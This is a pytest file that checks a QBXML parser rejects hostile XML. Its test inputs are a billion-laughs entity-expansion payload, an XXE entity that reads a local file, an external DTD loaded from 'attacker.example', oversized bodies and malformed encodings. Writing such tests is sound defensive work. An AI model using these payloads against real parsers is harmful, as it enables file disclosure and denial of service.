"""Hostile XML is refused quickly with a typed error; no entity is resolved, no network touched."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from desktop_app.errors import HostileXmlError, QbxmlError
from qbwc_server.qbxml import parse_response, parse_tree
from qbwc_server.qbxml.safe import MAX_MESSAGE_BYTES

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<QBXML><QBXMLMsgsRs>
<CustomerQueryRs requestID="&lol9;" statusCode="0" statusSeverity="Info"/></QBXMLMsgsRs></QBXML>
"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the parser tried to open a network connection")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    yield


def _refused(body: str | bytes, error: type[Exception] = HostileXmlError) -> str:
    with pytest.raises(error) as caught:
        parse_response(body)
    return str(caught.value)


def test_billion_laughs(no_network: None) -> None:
    # Refused at the DTD, before any entity is expanded (expansion would take gigabytes).
    assert "DTD or entity declaration" in _refused(BILLION_LAUGHS)


def test_external_entity(tmp_path: Path, no_network: None) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    body = (
        f'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY x SYSTEM "file://{secret}">]>'
        '<QBXML><QBXMLMsgsRs><HostQueryRs requestID="&x;" statusCode="0" statusSeverity="Info"/>'
        "</QBXMLMsgsRs></QBXML>"
    )
    with pytest.raises(HostileXmlError) as caught:
        parse_response(body)
    assert "TOP SECRET" not in str(caught.value)


def test_external_dtd_over_network(no_network: None) -> None:
    body = (
        '<?xml version="1.0"?><!DOCTYPE QBXML SYSTEM "http://attacker.example/evil.dtd">'
        "<QBXML><QBXMLMsgsRs/></QBXML>"
    )
    _refused(body)


def test_plain_internal_dtd(no_network: None) -> None:
    _refused("<!DOCTYPE QBXML [<!ELEMENT QBXML ANY>]><QBXML><QBXMLMsgsRs/></QBXML>")


def test_parameter_entity_split_across_chunks() -> None:
    body = b"<QBXML>" + b" " * (1024 * 1024 - 10) + b"<!DOC" + b"TYPE x []><QBXMLMsgsRs/></QBXML>"
    _refused(body)


def test_100_mb_body_is_refused_before_parsing() -> None:
    body = b"<QBXML>" + b"x" * (100 * 1024 * 1024) + b"</QBXML>"
    assert len(body) > MAX_MESSAGE_BYTES
    # Refused by its size alone: the message says so, nothing was parsed.
    assert f"at most {MAX_MESSAGE_BYTES:,} bytes" in _refused(body)
    del body


def test_100_mb_stream_is_refused_without_reading_it_all(tmp_path: Path) -> None:
    reads: list[int] = []

    class Endless:
        def read(self, size: int = -1) -> bytes:
            reads.append(size)
            return b"<QBXML>" if len(reads) == 1 else b"<!--" + b"x" * (size - 7) + b"-->"

    with pytest.raises(HostileXmlError):
        parse_response(Endless())  # type: ignore[arg-type]
    assert sum(reads) <= MAX_MESSAGE_BYTES + 2 * 1024 * 1024


def test_big_file_is_refused_by_its_size(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    with path.open("wb") as out:
        out.truncate(MAX_MESSAGE_BYTES + 1)
    with pytest.raises(HostileXmlError, match=f"at most {MAX_MESSAGE_BYTES:,} bytes"):
        parse_response(path)


@pytest.mark.parametrize(
    "body",
    [
        "<QBXML><Name>caf\xe9</Name></QBXML>".encode("latin-1"),
        "<QBXML/>".encode("utf-16"),
        b"<QBXML>\xff\xfe</QBXML>",
        b"<QBXML>\xe2\x82</QBXML>",
        b'<?xml version="1.0" encoding="ISO-8859-1"?><QBXML/>',
    ],
)
def test_non_utf8_bytes(body: bytes) -> None:
    _refused(body)


def test_lone_surrogate_in_text_is_refused() -> None:
    _refused("<QBXML>\ud800</QBXML>")


@pytest.mark.parametrize("body", ["<html><body/></html>", "<qbxml/>", "<soap:Envelope xmlns:soap='x'/>"])
def test_wrong_root(body: str) -> None:
    with pytest.raises(QbxmlError, match="Expected a <QBXML>"):
        parse_response(body)


def test_hostile_request_is_refused_by_parse_tree_too() -> None:
    with pytest.raises(HostileXmlError):
        parse_tree(BILLION_LAUGHS)


def test_utf8_with_bom_and_declaration_is_accepted() -> None:
    body = '\ufeff<?xml version="1.0" encoding="UTF-8"?><QBXML><QBXMLMsgsRs/></QBXML>'.encode()
    assert parse_response(body) == {}
